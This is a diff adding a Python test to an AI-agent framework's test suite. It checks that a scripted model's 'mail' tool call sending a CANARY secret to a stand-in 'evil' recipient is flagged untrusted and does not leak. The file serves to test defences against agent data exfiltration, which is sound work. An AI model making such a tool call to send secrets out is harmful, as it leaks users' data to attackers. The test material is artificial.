@@ -259,3 +259,15 @@ def test_several_addresses_must_all_be_listed():
 def test_a_host_of_letters_beyond_ascii_is_compared_as_it_is_looked_up():
     assert host_of("https://bücher.example/") == "xn--bcher-kva.example"
     assert host_of("https://api。example.org/") == "api.example.org"
+
+
+def test_what_a_history_does_not_show_any_more_can_be_said():
+    outside = Outside()
+    model = Scripted([call("mail", {"to": "evil", "body": CANARY}, "m")], [Text(text="Done.")])
+
+    async def read():
+        made = agent(model, *outside.tools, limits=Limits(approval=0.01))
+        return [step async for step in made.steps(asked(), untrusted=True)][-1]
+
+    assert asyncio.run(read()).untrusted
+    assert not outside.leaked
